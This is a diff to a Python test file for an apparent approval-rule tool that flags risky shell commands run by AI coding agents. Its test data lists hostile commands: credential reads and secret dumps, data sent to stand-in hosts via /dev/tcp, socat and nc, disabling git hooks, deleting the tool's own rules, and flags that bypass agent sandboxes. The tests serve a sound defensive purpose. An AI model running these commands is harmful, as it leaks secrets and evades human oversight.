@@ -24,27 +24,42 @@ DAILY = [
         "cat .env.example",
     "find . -name '*.py' | wc -l", "git log --oneline -5", "curl -s http://localhost:8000/health",
         "kubectl get pods",
+    "git -C . log -3", "curl -s -H 'Host: a.b' -o out.txt localhost:8000/health", "gh api /user", "kubectl describe pod x",
+    "git checkout -b x", "codex -s workspace-write exec x", "gpg --verify a.sig", "chmod +x run.sh",
     "docker build .", "terraform plan", "npm run build && ls dist",
 ]  # fmt: skip
 HARM = {
     "publishes": ["git push", "sh -c 'npm publish'", "cd x && terraform apply",
-        "kubectl -n a delete pod x", "docker push x"],
+        "kubectl -n a delete pod x", "docker push x", "npm run deploy", "make release", "npx semantic-release",
+        "gh api -X POST repos/a/b/releases", "lerna publish"],
     "deletes-outside": ["rm -rf /etc/x", "find / -delete", "rm ../x", "cd / && rm -rf *",
         "git -C /x clean -fd"],
     "credentials": ["cat .env", "cp ~/.ssh/id_rsa .", "grep x .env.local", "base64 server.key",
         "head -1 ~/.aws/credentials"],
     "rewrites-history": ["git push -f", "git push origin +x", "git reset --hard HEAD~3",
-        "git push origin main", "git rebase x"],
+        "git push origin main", "git rebase x", "git push origin HEAD:refs/heads/main", "git branch -M x",
+        "git switch -C x"],
+    "prints-credentials": ["gh auth token", "gpg --export-secret-keys", "kubectl -n a get secret x -o yaml",
+        "aws configure get aws_secret_access_key", "security find-generic-password -w"],
     "installs": ["npm i x", "python3 -m pip install x", "uv add x", "sudo apt-get install -y x",
         "brew install x"],
     "network": ["curl https://a.example", "wget a.example/x", "git clone https://a.example/x",
         "ssh a.example ls"],
-    "new-hosts": ["curl https://a.example", "pip install --index-url https://b.example x"],
+    "new-hosts": ["curl https://a.example", "pip install --index-url https://b.example x", "curl -s a.example",
+        "curl --url=a.example", "curl --compressed a.example", "curl -K hosts.conf", "wget -i urls.txt",
+        "curl --connect-to ::a.example: https://localhost/", "curl --resolve localhost:80:6.6.6.6 http://localhost/",
+        "cat x > /dev/tcp/a.example/80", "openssl s_client -connect a.example:443", "socat - TCP:a.example:80",
+        "ALL_PROXY=http://a.example curl http://localhost/", "ssh -o ProxyCommand='nc a.example 22' localhost",
+        "docker pull a.example/image", "http POST a.example", "nc -z a.example 80", "dig +short a.example"],
     "own-settings": ["echo {} > .claude/settings.json", "rm -rf .git/hooks",
-        "sed -i s/a/b/ ~/.claude/settings.json"],
+        "sed -i s/a/b/ ~/.claude/settings.json", "chmod -x .git/hooks/pre-commit",
+        "sqlite3 /srv/signalbox.sqlite3 'delete from tool_rules'"],
     "connects": ["signalbox disconnect claude-code", "git config core.hooksPath /dev/null",
-        "claude mcp add x"],
-    "without-sandbox": ["claude --dangerously-skip-permissions -p x", "codex --yolo exec x"],
+        "claude mcp add x", "git -c core.hooksPath=/dev/null commit -m x"],
+    "without-sandbox": ["claude --dangerously-skip-permissions -p x", "codex --yolo exec x",
+        "codex -s danger-full-access exec x", "codex --sandbox=danger-full-access exec x",
+        "codex -c 'sandbox_mode=\"danger-full-access\"' exec x", "gemini --approval-mode=yolo",
+        "claude --permission-mode bypassPermissions -p x"],
     "outside-project": ["cat /etc/passwd", "ls ..", "echo x > ~/x", "git -C /other log"],
 }  # fmt: skip
 
@@ -72,6 +87,23 @@ def test_daily_commands_are_not_asked_about(command: str) -> None:
 def test_each_asks_about_what_its_sentence_says(name: str, command: str) -> None:
     (rule,) = (rule for rule in RULES if rule.ready_made == name)
     assert decide("Bash", {"command": command}, [rule]) == ASK
+
+
+def test_looking_into_another_repository_deletes_nothing_there() -> None:
+    (rule,) = (rule for rule in RULES if rule.ready_made == "deletes-outside")
+    assert decide("Bash", {"command": "git -C ../other status"}, [rule]) == OBSERVE
+    assert decide("Bash", {"command": "git -C ../other clean -fd"}, [rule]) == ASK
+
+
+def test_a_host_of_localhost_alone_is_not_new() -> None:
+    (rule,) = (rule for rule in RULES if rule.ready_made == "new-hosts")
+    for command in (
+        "curl -x localhost:1 localhost",
+        "ssh -v localhost ls",
+        "nc -l 8000",
+        "ping -c 3 localhost",
+    ):
+        assert decide("Bash", {"command": command}, [rule]) == (ASK if "-l" in command else OBSERVE)
 
 
 def test_other_tools_are_asked_about_as_well() -> None:
